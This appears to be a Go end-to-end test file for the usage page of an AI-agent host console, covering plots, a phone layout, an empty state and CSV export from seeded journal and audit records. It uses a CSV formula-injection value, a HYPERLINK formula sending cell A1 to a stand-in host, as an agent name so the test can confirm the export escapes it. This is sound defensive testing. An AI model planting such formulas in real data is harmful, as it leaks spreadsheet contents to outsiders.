package console_test

import (
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/acphost/acphost/test/e2e"
)

// saved returns the file that the browser saves when a button is pressed.
func (p *webPage) saved(button string) [][]string {
	p.t.Helper()
	p.run(`const make = URL.createObjectURL; URL.createObjectURL = (b) => { window.__saved = b.text(); return make.call(URL, b); }`)
	p.button(button)
	all, err := csv.NewReader(strings.NewReader(eval[string](p, `__saved`))).ReadAll()
	if err != nil {
		p.t.Fatalf("the saved file is not CSV: %v", err)
	}
	return all
}

// drawn is the number of a page's plots on which more is drawn than axes: something in a colour.
const drawn = `[...document.querySelectorAll(".plot canvas")].filter((c) => {
	const d = c.getContext("2d").getImageData(0, 0, c.width, c.height).data;
	let n = 0;
	for (let i = 0; i < d.length; i += 4) if (d[i + 3] > 200 && Math.max(d[i], d[i + 1], d[i + 2]) - Math.min(d[i], d[i + 1], d[i + 2]) > 60) n++;
	return n > 20;
}).length`

func TestUsage_PlotsAndSaves(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	p := e2e.NewPlace(t)
	yesterday := time.Now().AddDate(0, 0, -1)
	noon := time.Date(yesterday.Year(), yesterday.Month(), yesterday.Day(), 12, 0, 0, 0, time.Local)
	recorded(t, p, noon)
	g := e2e.NewConsole(t, p)
	tab := openAsOperator(g, b, "#/usage")
	tab.shows("Sessions that are open")
	tab.until("five plots are drawn", drawn+` === 5`)
	for _, title := range []string{"Tokens", "Cost in USD", "Time of turns", "Time of decisions by policies", "Time that people took to answer"} {
		if !eval[bool](tab, fmt.Sprintf(`[...document.querySelectorAll(".plot [role=img]")].some((e) => e.getAttribute("aria-label").startsWith(%q))`, title)) {
			t.Errorf("no plot is called %q", title)
		}
	}
	if words := eval[string](tab, `document.querySelector(".plot [role=img]").getAttribute("aria-label")`); !strings.Contains(words, "claude 3K") || !strings.Contains(words, formula+" 6K") {
		t.Errorf("the plot of tokens has the text %q", words)
	}
	if n := eval[int](tab, `document.querySelectorAll("table.days tbody tr").length`); n != 6 {
		t.Errorf("the table has %d rows, want 6", n)
	}
	tab.picture("console-usage.png")
	tab.clean("usage with plots")
	tab.until("five plots are drawn in the dark", drawn+` === 5`)

	rows := tab.saved("Save as CSV")
	column := func(row []string, name string) string { return row[slices.Index(rows[0], name)] }
	if len(rows) != 7 {
		t.Fatalf("the file has %d rows: %q", len(rows), rows)
	}
	for i, row := range rows[1:] {
		ago := 2 - i/2
		want := map[string]string{
			"day": noon.AddDate(0, 0, -ago).Format(time.DateOnly), "turns": "1", "turn_sum_micros": "60000000", "input": "40", "output": "2",
			"cost": fmt.Sprintf("%d.25", ago+1), "currency": "USD",
		}
		if column(row, "agent") == "claude" {
			want["tokens"], want["policy_times"], want["allowed"] = fmt.Sprint(1000+ago), "", "0"
		} else {
			want["agent"], want["tokens"], want["policy_sum_micros"] = "'"+formula, fmt.Sprint(2000+ago), "2000"
			want["allowed"], want["asked"], want["denied"] = []string{"1", "0", "0"}[ago], []string{"0", "1", "0"}[ago], []string{"0", "0", "1"}[ago]
			want["people_sum_micros"] = []string{"", "3000000", ""}[ago]
		}
		for name, value := range want {
			if got := column(row, name); got != value {
				t.Errorf("row %d, %s: got %q, want %q", i+1, name, got, value)
			}
		}
	}

	// An agent can be left out.
	tab.run(`document.querySelector(".agents input").click()`)
	tab.until("one agent's rows are left", `document.querySelectorAll("table.days tbody tr").length === 3`)
	leaveWith(g, tab)
}

func TestUsage_OnPhone(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	p := e2e.NewPlace(t)
	recorded(t, p, time.Now().AddDate(0, 0, -1))
	g := e2e.NewConsole(t, p)
	tab := b.open(console(g)+"#/usage", phoneWidth, phoneHeight)
	tab.signIn(g.Token("viewer"))
	tab.until("five plots are drawn", drawn+` === 5`)
	if wide := eval[bool](tab, "document.documentElement.scrollWidth > innerWidth"); wide {
		t.Error("the page is wider than the phone")
	}
	tab.picture("console-usage-phone.png")
	tab.clean("usage on a phone")
	g.Leave()
}

func TestUsage_SaysIfNothingIsRecorded(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	p := e2e.NewPlace(t)
	g := e2e.NewConsole(t, p, p.Config(t, "journal: {disabled: true}\npermission: {policy: workspace, audit: {disabled: true}}\n")...)
	tab := openAsOperator(g, b, "#/usage")
	tab.shows("journal.disabled")
	tab.shows("permission.audit.disabled")
	tab.shows("Nothing is recorded of these days.")
	tab.clean("usage that is not recorded")
	g.Leave()
}

// formula is a name of an agent that a program for tables would take for one.
const formula = `=HYPERLINK("http://x/?"&A1,"<b>click</b>")`

// recorded puts into a place what supervisors recorded of two agents on three days, the last of them a day.
func recorded(t *testing.T, p *e2e.Place, last time.Time) {
	t.Helper()
	state := filepath.Join(p.Home, ".local", "state", "acphost")
	var audit strings.Builder
	for i, agent := range []string{"claude", formula} {
		for ago := range 3 {
			at := last.AddDate(0, 0, -ago)
			stamp := func(after time.Duration) string { return at.Add(after).UTC().Format("2006-01-02T15:04:05.000000000Z") }
			session := fmt.Sprintf("old-%d-%d", i, ago)
			lines := fmt.Sprintf(`{"t":%q,"journal":{"version":1,"session":%q,"agent":%q,"cwd":"/w","acphost":"v1","instance":"x","pid":1,"content":true}}
{"t":%q,"n":1,"dir":"front-to-agent","method":"session/new","frame":{"jsonrpc":"2.0","id":1,"method":"session/new","params":{"cwd":"/w","mcpServers":[]}}}
{"t":%q,"n":2,"dir":"agent-to-front","answers":"session/new","frame":{"jsonrpc":"2.0","id":1,"result":{"sessionId":%q}}}
{"t":%q,"n":3,"dir":"front-to-agent","method":"session/prompt","frame":{"jsonrpc":"2.0","id":2,"method":"session/prompt","params":{"sessionId":%q,"prompt":[{"type":"text","text":"go"}]}}}
{"t":%q,"n":4,"dir":"agent-to-front","method":"session/update","frame":{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":%q,"update":{"sessionUpdate":"usage_update","used":5,"size":9,"cost":{"amount":%d.25,"currency":"USD"}}}}}
{"t":%q,"n":5,"dir":"agent-to-front","answers":"session/prompt","frame":{"jsonrpc":"2.0","id":2,"result":{"stopReason":"end_turn","usage":{"totalTokens":%d,"inputTokens":40,"outputTokens":2}}}}
`,
				stamp(0), session, agent, stamp(0), stamp(0), session, stamp(0), session, stamp(time.Second), session, ago+1, stamp(time.Minute), 1000*(i+1)+ago)
			file := filepath.Join(state, "journal", at.UTC().Format(time.DateOnly), "s-"+session+"-0123456789ab.ndjson")
			if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(file, []byte(lines), 0o600); err != nil {
				t.Fatal(err)
			}
		}
	}
	for i, verdict := range []string{"allow", "ask", "deny"} {
		fmt.Fprintf(&audit, `{"time":%q,"id":"%d","supervisor":1,"session_id":"old","agent":%q,"door":"call","verdict":%q,"latency_micros":2000,"answered_by":"policy","outcome":"allowed","asked_millis":%d}`+"\n",
			last.AddDate(0, 0, -i).UTC().Format(time.RFC3339Nano), i, formula, verdict, 3000*(i%2))
	}
	if err := os.WriteFile(filepath.Join(state, "audit.jsonl"), []byte(audit.String()), 0o600); err != nil {
		t.Fatal(err)
	}
}
